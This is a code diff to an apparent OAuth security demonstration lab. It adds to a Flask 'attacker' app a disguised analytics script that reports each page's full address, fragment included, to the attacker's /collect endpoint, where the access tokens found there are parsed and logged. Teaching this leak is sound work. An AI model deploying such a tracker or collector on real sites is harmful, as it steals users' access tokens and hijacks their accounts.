@@ -14,10 +14,22 @@ import secrets
 import threading
 import time
 from typing import Any
+from urllib.parse import parse_qsl, urlsplit
 
-from flask import Flask, jsonify, render_template, request
+from flask import Flask, Response, jsonify, render_template, request
 
 KEPT = 200  # requests remembered; the oldest go first
+
+#: The "analytics" script a careless site embeds: it reports each page view with the page's full
+#: address, as many trackers do. On the implicit-flow victim's page, that address holds the token.
+ANALYTICS_JS = """// Page-view analytics: report where the visitor is, the full address included.
+new Image().src = new URL("collect", document.currentScript.src) +
+    "?page=" + encodeURIComponent(location.href);
+"""
+#: The smallest transparent GIF: what a tracking pixel answers.
+PIXEL = bytes.fromhex(
+    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
+)
 
 
 class Log:
@@ -86,6 +98,23 @@ def create_attacker_app() -> Flask:
         if not found:
             return "No such page.", 404
         return render_template("attacker/lure.html", href=found[0]["href"])
+
+    @app.get("/analytics.js")
+    def analytics():
+        """The third-party script the implicit-flow victim's page embeds."""
+        return Response(ANALYTICS_JS, mimetype="text/javascript")
+
+    @app.get("/collect")
+    def collect():
+        """A page view the script reported: keep the parameters in the page's address, the
+        fragment's included, which is where the implicit flow puts the access token."""
+        page = urlsplit(request.args.get("page", ""))
+        found = dict(parse_qsl(page.query)) | dict(parse_qsl(page.fragment))
+        log.add(
+            log.requests,
+            {"path": "/collect", "query": found, "referer": request.headers.get("Referer", "")},
+        )
+        return Response(PIXEL, mimetype="image/gif")
 
     @app.get("/<path:path>")
     def catch(path: str):
